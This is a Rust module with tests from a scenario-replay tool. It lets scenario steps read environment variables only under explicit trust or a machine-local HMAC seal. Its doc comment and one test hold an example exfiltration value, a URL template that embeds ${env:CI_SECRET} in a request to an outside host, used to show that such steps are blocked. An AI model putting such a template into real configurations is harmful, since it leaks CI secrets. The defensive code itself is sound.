//! Which scenario templates may read this process's environment.
//!
//! A scenario is a file anyone can hand over (a pull request, a shared
//! recording). Were every `${env:X}` expanded, a hand-written step
//! `{"url": "https://x/?k=${env:CI_SECRET}"}` claiming `readOnlyHint`
//! would send a CI secret to a live server under plain `bir verify`. So:
//!
//! * `${env:X}` written into a step's arguments expands only when the user
//!   trusts the scenario (`--trust-scenario`).
//! * A parameter bound `from: env:X` expands without that flag only where
//!   bir wrote it itself: `bir scenario param … --from env:X` seals the
//!   parameter for the argument it replaced (server, tool, argument
//!   pointer) with an HMAC-SHA256 under a key kept private in `$BIR_HOME`
//!   (`scenario-seal.key`, 0600). A hand-written or copied parameter, a
//!   sealed one used at another argument, or one sealed under another
//!   `$BIR_HOME` (another machine, a CI runner) does not verify, and needs
//!   `--trust-scenario` like a raw `${env:X}`.
//!
//! A step needing a variable it may not read is blocked with the reason
//! (never sent); the report lists the variables steps did read.

use std::io::{Read, Write};
use std::path::{Path, PathBuf};

use serde_json::Value;

use super::scenario::{Scenario, ScenarioStep};
use super::template;

/// The key file's name under `$BIR_HOME`.
const KEY_FILE: &str = "scenario-seal.key";

/// What the MAC covers, before the fields (a version, so a later change
/// of fields cannot be confused with this one).
const SEAL_DOMAIN: &str = "bir/scenario-param-env@1";

/// Where a parameter is used: the step's server and tool and the argument
/// pointer, as the seal names it.
pub(crate) fn place(server: &str, tool: &str, pointer: &str) -> String {
    format!("{server}/{tool}#{pointer}")
}

fn message(name: &str, from: &str, at: &str) -> Vec<u8> {
    [SEAL_DOMAIN, name, from, at].join("\0").into_bytes()
}

fn key_path(home: &Path) -> PathBuf {
    home.join(KEY_FILE)
}

/// The seal key of `home`, created (32 random bytes, 0600, never through
/// a symlink) when `create` and absent.
fn key(home: &Path, create: bool) -> Option<ring::hmac::Key> {
    let path = key_path(home);
    let mut bytes = Vec::new();
    match crate::home::open_regular(crate::home::private_file().read(true), &path) {
        Ok(f) => {
            f.take(1024).read_to_end(&mut bytes).ok()?;
        }
        Err(e) if e.kind() == std::io::ErrorKind::NotFound && create => {
            use ring::rand::SecureRandom;
            let mut fresh = [0u8; 32];
            ring::rand::SystemRandom::new().fill(&mut fresh).ok()?;
            crate::home::ensure_private_dir(home).ok()?;
            match crate::home::private_file()
                .write(true)
                .create_new(true)
                .open(&path)
            {
                Ok(mut f) => {
                    f.write_all(&fresh).ok()?;
                    bytes = fresh.to_vec();
                }
                // Another process created it first: use theirs.
                Err(e) if e.kind() == std::io::ErrorKind::AlreadyExists => {
                    return key(home, false);
                }
                Err(_) => return None,
            }
        }
        Err(_) => return None,
    }
    (bytes.len() >= 32).then(|| ring::hmac::Key::new(ring::hmac::HMAC_SHA256, &bytes))
}

/// The seal `bir scenario param` writes for parameter `name` bound `from`
/// (`env:X`) at `at` ([`place`]), under `$BIR_HOME`'s key (created on
/// first use). `None` when there is no `$BIR_HOME` to keep a key in.
pub(crate) fn seal(name: &str, from: &str, at: &str) -> Option<String> {
    seal_in(&crate::home::bir_home()?, name, from, at)
}

/// The seals parameter `name` has after `bir scenario param` binds it
/// `from` at `at`: the earlier ones (if it was bound from the same source
/// before) plus one for `at` when `from` is `env:…`.
pub(crate) fn seals_for(
    previous: Option<&super::scenario::Param>,
    name: &str,
    from: Option<&str>,
    at: &str,
) -> Vec<super::scenario::Seal> {
    let mut seals: Vec<super::scenario::Seal> = previous
        .filter(|p| p.from.as_deref() == from)
        .map(|p| p.seals.iter().filter(|s| s.at != at).cloned().collect())
        .unwrap_or_default();
    if let Some(from) = from.filter(|f| f.starts_with("env:"))
        && let Some(mac) = seal(name, from, at)
    {
        seals.push(super::scenario::Seal {
            at: at.to_owned(),
            mac,
        });
    }
    seals
}

fn seal_in(home: &Path, name: &str, from: &str, at: &str) -> Option<String> {
    let key = key(home, true)?;
    let tag = ring::hmac::sign(&key, &message(name, from, at));
    Some(crate::codec::hex_lower(tag.as_ref()))
}

/// Whether `mac` is the seal this `$BIR_HOME` wrote for those fields.
fn verifies(home: Option<&Path>, name: &str, from: &str, at: &str, mac: &str) -> bool {
    let Some(key) = home.and_then(|h| key(h, false)) else {
        return false;
    };
    let Some(tag) = hex_decode(mac) else {
        return false;
    };
    ring::hmac::verify(&key, &message(name, from, at), &tag).is_ok()
}

fn hex_decode(text: &str) -> Option<Vec<u8>> {
    if !text.len().is_multiple_of(2) {
        return None;
    }
    (0..text.len())
        .step_by(2)
        .map(|i| u8::from_str_radix(text.get(i..i + 2)?, 16).ok())
        .collect()
}

/// The environment a step's arguments would read, and whether it may.
#[derive(Debug, Default, PartialEq, Eq)]
pub(crate) struct EnvUse {
    /// Variables read (raw `${env:X}`, and parameters bound `from: env:X`
    /// that were not given with `--param`).
    pub vars: Vec<String>,
    /// Why the step may not read them (`None`: it may).
    pub refused: Option<String>,
}

/// What `step` reads from the environment, judged against the trust the
/// user gave (`trusted`: `--trust-scenario`) and the seals of `home`
/// (`$BIR_HOME`). `given` are the parameters bound on the command line:
/// they read nothing.
pub(crate) fn env_use(
    scenario: &Scenario,
    step: &ScenarioStep,
    given: &std::collections::HashMap<String, String>,
    trusted: bool,
    home: Option<&Path>,
) -> EnvUse {
    let mut out = EnvUse::default();
    let mut refused: Vec<String> = Vec::new();
    template::for_each_leaf(&step.args, &mut |pointer, _key, leaf| {
        let Value::String(text) = leaf else {
            return;
        };
        for body in template_bodies(text) {
            if let Some(var) = body.strip_prefix("env:") {
                out.vars.push(var.to_owned());
                if !trusted {
                    refused.push(format!(
                        "${{env:{var}}} at {pointer} is the scenario's own: it reads the environment only with --trust-scenario"
                    ));
                }
            } else if let Some(name) = body.strip_prefix("param:") {
                if given.contains_key(name) {
                    continue;
                }
                let Some(param) = scenario.params.get(name) else {
                    continue;
                };
                let Some(from) = param.from.as_deref() else {
                    continue;
                };
                let Some(var) = from.strip_prefix("env:") else {
                    continue;
                };
                out.vars.push(var.to_owned());
                let at = place(&step.server, &step.tool, pointer);
                let sealed = param
                    .seals
                    .iter()
                    .any(|s| s.at == at && verifies(home, name, from, &at, &s.mac));
                if !trusted && !sealed {
                    refused.push(format!(
                        "parameter {name} at {pointer} reads environment variable {var}, but bir scenario param did not bind it there on this machine: it reads the environment only with --trust-scenario (or give --param {name}=…)"
                    ));
                }
            }
        }
    });
    out.vars.sort();
    out.vars.dedup();
    if !refused.is_empty() {
        out.refused = Some(format!("not sent: {}", refused.join("; ")));
    }
    out
}

/// The bodies of the `${…}` templates in `text`.
fn template_bodies(text: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let mut rest = text;
    while let Some(i) = rest.find("${") {
        let Some(end) = rest[i..].find('}') else {
            break;
        };
        out.push(&rest[i + 2..i + end]);
        rest = &rest[i + end + 1..];
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::replay::scenario::{Param, Seal};
    use std::collections::HashMap;

    fn scenario_with(args: Value, param: Option<Param>) -> Scenario {
        let mut s = Scenario::parse(
            &serde_json::json!({
                "schema": "bir/scenario@1",
                "steps": [{"id": "s1", "server": "peer", "tool": "fetch", "args": args}]
            })
            .to_string(),
        )
        .expect("scenario");
        if let Some(p) = param {
            s.params.insert("k".into(), p);
        }
        s
    }

    #[test]
    fn raw_env_templates_need_trust_and_are_named() {
        let s = scenario_with(
            serde_json::json!({"url": "https://x/?k=${env:CI_SECRET}", "n": 1}),
            None,
        );
        let u = env_use(&s, &s.steps[0], &HashMap::new(), false, None);
        assert_eq!(u.vars, ["CI_SECRET"]);
        let why = u.refused.expect("refused");
        assert!(
            why.contains("--trust-scenario") && why.contains("/url"),
            "{why}"
        );
        let u = env_use(&s, &s.steps[0], &HashMap::new(), true, None);
        assert_eq!(
            (u.vars.as_slice(), u.refused),
            (["CI_SECRET".to_owned()].as_slice(), None)
        );
    }

    #[test]
    fn env_parameters_read_only_where_this_home_sealed_them() {
        let home = temp_home();
        let at = place("peer", "fetch", "/token");
        let mac = seal_in(&home, "k", "env:TOKEN", &at).expect("seal");
        let sealed = Param {
            from: Some("env:TOKEN".into()),
            seals: vec![Seal {
                at: at.clone(),
                mac: mac.clone(),
            }],
            ..Param::default()
        };
        let s = scenario_with(
            serde_json::json!({"token": "${param:k}"}),
            Some(sealed.clone()),
        );
        let u = env_use(&s, &s.steps[0], &HashMap::new(), false, Some(&home));
        assert_eq!((u.vars, u.refused), (vec!["TOKEN".to_owned()], None));
        // The same seal moved to another argument does not verify.
        let s2 = scenario_with(
            serde_json::json!({"url": "${param:k}"}),
            Some(sealed.clone()),
        );
        assert!(
            env_use(&s2, &s2.steps[0], &HashMap::new(), false, Some(&home))
                .refused
                .is_some()
        );
        // Another variable under the same seal does not either.
        let mut forged = sealed.clone();
        forged.from = Some("env:CI_SECRET".into());
        let s3 = scenario_with(serde_json::json!({"token": "${param:k}"}), Some(forged));
        assert!(
            env_use(&s3, &s3.steps[0], &HashMap::new(), false, Some(&home))
                .refused
                .is_some()
        );
        // Nor under another home's key; a hand-written seal is just text.
        let other = temp_home();
        assert!(
            env_use(&s, &s.steps[0], &HashMap::new(), false, Some(&other))
                .refused
                .is_some()
        );
        // Given on the command line: nothing is read.
        let given = HashMap::from([("k".to_owned(), "v".to_owned())]);
        assert_eq!(
            env_use(&s3, &s3.steps[0], &given, false, Some(&home)),
            EnvUse::default()
        );
        // The key is private.
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(key_path(&home))
            .expect("key")
            .permissions()
            .mode();
        assert_eq!(mode & 0o777, 0o600);
        let _ = std::fs::remove_dir_all(&home);
        let _ = std::fs::remove_dir_all(&other);
    }

    fn temp_home() -> PathBuf {
        let dir = std::env::temp_dir().join(format!(
            "bir-seal-{}-{}",
            std::process::id(),
            crate::record::model::random_u64()
        ));
        std::fs::create_dir_all(&dir).expect("temp home");
        dir
    }
}
